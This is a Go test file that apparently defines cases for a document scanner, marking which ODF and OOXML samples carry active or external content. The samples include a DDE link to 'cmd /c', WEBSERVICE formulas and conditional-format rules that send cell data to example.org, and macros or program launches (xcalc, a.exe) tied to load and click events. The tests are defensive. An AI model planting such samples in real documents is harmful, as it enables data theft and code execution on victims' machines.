	runs("section-from-the-web", odtType, body(odtType, `<text:section text:name="a"><text:section-source xlink:href="https://example.org/a.odt"/></text:section>`))
	runs("dde-beside-own", odsType, body(odsType, `<office:dde-source xmlns:z="urn:z" z:dde-application="soffice" office:dde-application="cmd"/>`))
	runs("dde-formula-beside-own", odsType, body(odsType, `<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;1&quot;)&amp;&quot;soffice&quot;"/>`))
	runs("formula-that-sends-cells", odsType, body(odsType, `<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://example.org/&quot;&amp;[.A1])"/>`))
	runs("formula-of-excel-that-sends-cells", odsType, body(odsType, `<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://example.org/&quot;)"/>`))
	runs("key-that-starts-a-macro", odtType, parts{"Configurations2/accelerator/current.xml": `<accel:acceleratorlist xmlns:accel="a" xmlns:xlink="http://www.w3.org/1999/xlink"><accel:item xlink:href="` + href + `"/></accel:acceleratorlist>`})
	fine("dde-formula-to-itself", odsType, body(odsType, `<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a.ods&quot;;&quot;A1&quot;)"/>`))
	odfSources(runs, fine)
	fine("section-from-a-neighbour", odtType, body(odtType, `<text:section text:name="a"><text:section-source xlink:href="../terms.odt"/></text:section>`))
	runs("macro-on-load-of-another-element", odtType, body(odtType, `<office:event-listeners><script:event script:language="StarBasic" script:event-name="dom:load" script:macro-name="application:Standard.Module1.Main"/></office:event-listeners>`))
	runs("macro-on-load-of-an-element-of-presentations", odtType, body(odtType, `<presentation:x script:event-name="dom:load" script:macro-name="a"/>`))
	runs("program-behind-a-click-on-another-element", odpType, body(odpType, `<presentation:x script:event-name="dom:click" presentation:action="execute" xlink:href="file:///usr/bin/xcalc"/>`))
	runs("program-linked-to-an-event-of-another-element", odpType, body(odpType, `<presentation:x script:event-name="dom:click" xlink:href="file:///C:/a.exe"/>`))
	fine("event-without-a-macro", odtType, body(odtType, `<script:event-listener script:language="ooo:script" script:event-name="dom:load" script:macro-name=""/>`))
	fine("click-on-another-element-that-shows-a-page", odpType, body(odpType, `<presentation:x script:event-name="dom:click" presentation:action="show" xlink:href="#page2"/>`))
}

// odfSources are what LibreOffice fetches by itself, by formulas too.
func odfSources(runs, fine addOffice) {
	cell := func(formula string) parts {
		return body(odsType, `<table:table-cell table:formula="`+strings.ReplaceAll(formula, `"`, "&quot;")+`"/>`)
	}
	instance := func(attr string) parts { return body(odtType, `<x:model><x:instance `+attr+`/></x:model>`) }
	rule := func(element, value string) parts {
		return body(odsType, `<calcext:conditional-format><calcext:`+element+` calcext:type="formula" calcext:value="`+strings.ReplaceAll(value, `"`, "&quot;")+`"/></calcext:conditional-format>`)
	}
	for _, to := range [][2]string{
		{"the-web", `"https://example.org/a.ods"`}, {"a-share", `"\\host\a.ods"`}, {"a-file-by-its-address", `"file:///etc/hostname"`},
		{"a-cell", `[.A1]`}, {"parts", `"ht"&amp;"tps://example.org/a.ods"`}, {"a-function", `CONCATENATE("a")`},
	} {
		runs("dde-formula-to-"+to[0], odsType, cell(`of:=DDE("soffice";`+to[1]+`;"A1")`))
	}
	runs("dde-formula-to-a-service-of-parts", odsType, cell(`of:=DDE("soffice"&amp;"x";"a";"A1")`))
	runs("dde-to-the-web", odtType, body(odtType, `<text:dde-connection-decl office:dde-application="soffice" office:dde-topic="http://example.org/a.odt"/>`))
	runs("dde-to-a-share", odsType, body(odsType, `<office:dde-source office:dde-application="soffice" office:dde-topic="//host/a.ods"/>`))
	runs("dde-to-a-file-by-its-address", odsType, body(odsType, `<office:dde-source office:dde-application="soffice" office:dde-topic="file:///etc/hostname"/>`))
	fine("dde-to-a-document-on-the-disk", odtType, body(odtType, `<text:dde-connection-decl office:dde-application="soffice" office:dde-topic="C:\Texts\a.odt"/>`))
	fine("dde-formula-to-a-document-on-the-disk", odsType, cell(`of:=SUM(DDE( "soffice" ; "C:\Tables (old)\a, b.ods" ; "A1" );1)`))

	runs("form-whose-data-are-fetched", odtType, instance(`src="http://example.org/a.xml"`))
	runs("form-whose-data-are-a-file", odtType, instance(`src="file:///etc/hostname"`))
	runs("form-whose-data-lie-above", odtType, instance(`src="../../a.xml"`))
	runs("form-whose-data-are-a-resource", odtType, instance(`resource="http://example.org/a.xml"`))
	fine("form-with-data-in-itself", odtType, instance(`id="a" src="#data"`))
	fine("form-with-data-in-the-package", odtType, instance(`src="data/a.xml"`))
	fine("form-that-is-sent", odtType, body(odtType, `<x:submission resource="https://example.org/"/><draw:image src="https://example.org/a.png"/>`))

	const web = `LEN(COM.MICROSOFT.WEBSERVICE("http://example.org/"))`
	runs("rule-that-sends-cells", odsType, rule("condition", "formula-is("+web+"&gt;0)"))
	runs("rule-that-compares-with-what-sends-cells", odsType, rule("condition", "&gt;"+web))
	runs("rule-with-a-sign-behind-what-sends-cells", odsType, rule("condition", `WEBSERVICE("a")=1`))
	runs("bar-that-sends-cells", odsType, rule("formatting-entry", web))
	runs("old-bar-that-sends-cells", odsType, rule("data-bar-entry", web))
	runs("scale-that-sends-cells", odsType, rule("color-scale-entry", web))
	runs("condition-with-a-sign-behind-dde", odsType, body(odsType, `<style:map xmlns:style="urn:st" style:condition="DDE(1;2;3)=1"/>`))
	fine("rule", odsType, rule("condition", `formula-is(SUM([.A1:.A3])&gt;LEN("call (me)"))`))
	fine("rule-of-a-text", odsType, rule("condition", `contains-text("WEBSERVICE(1)")`))
	fine("value-of-a-form", odsType, body(odsType, `<form:option xmlns:form="urn:f" form:value="call (me)"/><table:table-cell office:value="12"/>`))

	runs("cell-of-a-table-from-the-web", odsType, cell(`of:='http://example.org/a.csv'#$x.A1`))
	runs("cell-of-a-table-from-the-web-in-brackets", odsType, cell(`of:=SUM(['https://example.org/a.csv'#$x.A1:.A3])`))
	runs("cell-of-a-table-from-the-web-of-excel", odsType, cell(`msoxl:='http://example.org/[a.xls]x'!A1`))
	fine("cell-of-a-table-on-a-share", odsType, cell(`of:=['file://host/a.ods'#$x.A1]`))
	runs("name-of-a-table-from-the-web", odsType, body(odsType, `<table:named-expression table:expression="['ftp://example.org/a.csv'#$x.A1]"/>`))
	runs("table-from-the-web", odsType, body(odsType, `<table:table-source xlink:href="http://example.org/a.csv"/>`))
	runs("cells-from-the-web", odsType, body(odsType, `<table:cell-range-source xlink:href="http://example.org/a.csv"/>`))
	fine("cells-from-a-share", odsType, body(odsType, `<table:cell-range-source xlink:href="\\host\a.csv"/>`))
	runs("table-read-from-the-web", odsType, body(odsType, `<calcext:data-mapping calcext:xml-input="http://example.org/a.csv"/>`))
	runs("formula-behind-a-sheet-with-a-quote", odsType, cell(`of:=['x"'#$S.A1]+WEBSERVICE("http://example.org/")`))
	runs("formula-behind-a-column-of-excel", odsType, cell(`msoxl:=SUM(T['#a])+WEBSERVICE("http://example.org/")+'b'!A1`))
	fine("cell-of-a-neighbour", odsType, cell(`of:=['../a (new).ods'#$x.A1]+['file:///C:/a.ods'#$'My ''call(1)'' sheet'.A1]+['file:///home/a/b.ods'#$x.A1]`))
	fine("table-of-a-neighbour", odsType, body(odsType, `<table:table-source xlink:href="../a.ods"/><table:cell-range-source xlink:href="file:///home/a/b.ods"/>`))
	fine("address-as-a-text", odsType, cell(`of:="see 'http://example.org/a.csv'#$x.A1"&amp;HYPERLINK("https://example.org/";"x")`))
}

// boundTricks are refused for what they would cost, or for what programs would not agree on.
func boundTricks() []Case {
	long := strings.Repeat("a", 5000)
	manifest := odfParts(odtType, "")["META-INF/manifest.xml"]
	types := typesWith("word/document.xml", docxMain, `<Override PartName="/word/other.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"/>`)
	mains := func(name, tags string) Case {
		return officeCase(name, docxType, airlock.TypeMismatch, parts{"word/other.xml": wordText(""), "[Content_Types].xml": types,
			"_rels/.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:z="urn:z">` + tags + `</Relationships>`})
	}
	return []Case{
		mains("main-by-a-foreign-type-of-relationship", `<Relationship Id="a" z:Type="`+relsOf+`officeDocument" Type="urn:x" Target="word/document.xml"/><Relationship Id="b" z:Type="urn:x" Type="`+relsOf+`officeDocument" Target="word/other.xml"/>`),
		mains("main-by-a-foreign-target", `<Relationship Id="a" Type="`+relsOf+`officeDocument" z:Target="word/document.xml" Target="word/other.xml"/>`),
		officeCase("main-by-a-type-of-a-foreign-namespace", docxType, airlock.TypeMismatch, parts{"[Content_Types].xml": strings.Replace(docxParts["[Content_Types].xml"], "<Override ", `<z:Override xmlns:z="urn:z" `, 1)}),
		officeCase("name-of-5000-bytes-in-types", docxType, airlock.Malformed, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/`+long+`" ContentType="x"/>`)}),
		officeCase("type-of-5000-bytes", docxType, airlock.Malformed, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/a" ContentType="`+long+`"/>`)}),
		officeCase("document-named-by-5000-bytes", docxType, airlock.Malformed, parts{"_rels/.rels": rels("officeDocument", "word/document.xml", "officeDocument", long)}),
		officeCase("rtf-with-bytes-beyond-its-end", docxType, airlock.Uninspectable, rtf(`{\*\x\bin4294967297 a}{\object\objautlink{\*\objdata 00}}`)),
		officeCase("text-of-a-field-of-5000-bytes", docxType, airlock.Uninspectable, inText(code(`INCLUDETEXT "`+strings.Repeat("a", 5000)+`.docx"`))),
		officeCase("document-that-is-rtf", docxType, airlock.Malformed, parts{"word/document.xml": `{\rtf1 hello}`}),
		officeCase("document-that-is-an-archive", docxType, airlock.Malformed, parts{"word/document.xml": string(goZip("a", "b"))}),
		officeCase("document-that-is-of-a-mac", docxType, airlock.Malformed, parts{"word/document.xml": "\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        "}),
		officeCase("content-that-is-an-archive", odtType, airlock.Malformed, parts{"content.xml": string(goZip("a", "b"))}),
		officeCase("in-utf-7-behind-a-tab", docxType, airlock.Uninspectable, parts{"word/document.xml": "<?xml\tversion=\"1.0\" encoding=\"UTF-7\"?>" + wordText("")[len(xmlV1):]}),
		officeCase("part-twice-but-for-case", docxType, airlock.UnsafeArchive, parts{"word/DOCUMENT.xml": wordText("")}),
		officeCase("main-of-a-foreign-namespace", docxType, airlock.Malformed, parts{"_rels/.rels": strings.ReplaceAll(rels("officeDocument", "word/document.xml"), "<Relationship ", `<z:Relationship xmlns:z="urn:z" `)}),
		officeCase("of-another-kind-by-its-manifest", odtType, airlock.TypeMismatch, parts{"META-INF/manifest.xml": strings.Replace(manifest, odtType, odsType, 1)}),
		with(officeCase("macro-beside-a-locked-part", odtType, airlock.ActiveContent, parts{
			"META-INF/manifest.xml": strings.Replace(manifest, "</manifest:manifest>", `<manifest:file-entry manifest:full-path="a.bin"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>`, 1),
			"content.xml":           body(odtType, `<text:a xlink:href="macro:///a.b.c()">x</text:a>`)["content.xml"],
		}), func(p *airlock.Profile) { p.Limits.Encrypted = "allow" }),
		{Name: fmt.Sprintf("office-%d-namespaces.docx", 2000), Type: docxType, Want: airlock.Malformed, Make: func() []byte {
			var b strings.Builder
			for i := range 2000 {
				fmt.Fprintf(&b, ` xmlns:a%d="urn:a"`, i)
			}
			return docxOf(parts{"word/document.xml": strings.Replace(wordText(""), "<w:body>", "<w:body"+b.String()+">", 1)})
		}},
	}
}
